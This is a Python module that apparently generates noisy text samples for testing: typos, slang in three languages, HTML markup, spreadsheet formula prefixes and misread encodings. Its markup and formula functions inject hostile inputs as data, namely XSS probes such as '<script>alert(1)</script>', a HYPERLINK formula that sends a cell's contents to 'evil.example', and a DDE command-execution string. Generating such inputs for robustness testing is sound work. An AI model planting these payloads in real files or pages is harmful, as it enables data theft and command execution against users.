"""Dirt in texts: slips of the keyboard, markup, formulas, quoted mail, signatures and letters read in a wrong encoding."""

from __future__ import annotations

from voc.data.sample.template import Dice

_NEXT_KEY = {
    "en": dict(zip("qwertyuiopasdfghjklzxcvbnm", "wertyuiopoasdfghjklkxcvbnmn"[:26], strict=False)),
    "ru": dict(zip("йцукенгшщзхфывапролджэячсмитьбю", "цукенгшщзхъывапролджэдчсмитьбюб", strict=False)),
}
_ALIKE = (("的", "得"), ("在", "再"), ("帐", "账"), ("做", "作"), ("那", "哪"))
_COLLOQUIAL = {
    "en": ((" you ", " u "), ("please", "plz"), (" are ", " r "), ("because", "bc"), ("don't", "dont"), ("I am", "im")),
    "ru": (
        ("сейчас", "щас"),
        ("пожалуйста", "плиз"),
        ("спасибо", "спс"),
        ("вообще", "ваще"),
        ("когда", "када"),
        ("что", "чё"),
    ),
    "zh": (("什么", "啥"), ("怎么", "咋"), ("非常", "灰常"), ("没有", "木有"), ("这样", "酱紫"), ("谢谢", "蟹蟹")),
}


def slips(dice: Dice, text: str, language: str) -> str:
    """Return a text with one to three slips: a neighbouring key, letters swapped, lost or doubled."""
    if language == "zh":
        right, wrong = dice.pick(_ALIKE)
        return text.replace(right, wrong, 1)
    keys = _NEXT_KEY[language]
    for _ in range(1 + dice.below(3)):
        if len(text) < 8:
            return text
        at = 1 + dice.below(len(text) - 3)
        if not (text[at].isalpha() and text[at + 1].isalpha()):
            continue
        kind = dice.below(4)
        if kind == 0:
            text = text[:at] + keys.get(text[at], text[at]) + text[at + 1 :]
        elif kind == 1:
            text = text[:at] + text[at + 1] + text[at] + text[at + 2 :]
        elif kind == 2:
            text = text[:at] + text[at + 1 :]
        else:
            text = text[:at] + text[at] + text[at:]
    return text


def colloquial(dice: Dice, text: str, language: str) -> str:
    """Return a text with some words as they are said."""
    for proper, loose in _COLLOQUIAL[language]:
        if dice.chance(0.6):
            text = text.replace(proper, loose)
    return text


def markup(dice: Dice, text: str) -> str:
    """Return a text as an editor of rich text, or somebody with bad intentions, sends it."""
    body = text.replace("&", "&amp;").replace("\n\n", "</p><p>").replace("\n", "<br>")
    if dice.chance(0.5):
        body = body.replace(" ", "&nbsp;", 3)
    body = dice.pick(
        ("<p>{}</p>", '<div dir="ltr">{}</div>', '<p><span style="color:#333">{}</span></p>', "{}<br/>")
    ).format(body)
    if dice.chance(0.25):
        body += dice.pick(
            ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<a href="javascript:alert(1)">x</a>')
        )
    return body


def formula(dice: Dice, text: str) -> str:
    """Return a text that a spreadsheet would take for a formula."""
    start = dice.pick(
        (
            '=HYPERLINK("http://evil.example/?d="&A1,"open") ',
            "@SUM(A1:A9) ",
            "+1 ",
            "=1+1 ",
            "-2+3 ",
            "=cmd|' /C calc'!A0 ",
        )
    )
    return start + text


def wrong_encoding(dice: Dice, text: str) -> str | None:
    """Return a text whose UTF-8 bytes were read as a Windows or Latin code page; ``None`` where nothing changes."""
    page = dice.pick(("cp1252", "cp1252", "latin-1", "cp1251"))
    letters = []
    for byte in text.encode("utf-8"):
        try:
            letters.append(bytes([byte]).decode(page))
        except UnicodeDecodeError:
            letters.append(chr(byte))
    broken = "".join(letters)
    return broken if broken != text else None
